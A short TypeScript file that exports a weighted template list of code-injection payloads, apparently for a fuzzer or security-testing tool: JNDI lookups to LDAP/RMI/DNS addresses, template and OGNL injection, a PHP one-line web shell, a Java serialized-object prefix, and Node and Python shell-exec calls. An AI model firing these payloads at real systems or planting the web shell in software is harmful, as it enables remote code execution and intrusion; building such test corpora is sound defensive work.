/** Code, template and object injection. */
export const CODE = String.raw`
code/jndi [value,header] 4: §{jndi:‹ldap¦rmi¦dns›://‹addr›/‹rnd›}
code/template 4: {{‹=a:‹#2-99››*‹#2-99›}}
code/php 3: <?php system(§_GET['‹~1-4›']); ?>
code/ognl 2: %{(#a=@java.lang.Runtime@getRuntime().exec('‹shcmd›'))}
code/java-serial 2: rO0AB‹*40-200›
code/node 2: require('child_process').execSync('‹shcmd›')
code/python 2: __import__('os').system('‹shcmd›')
`
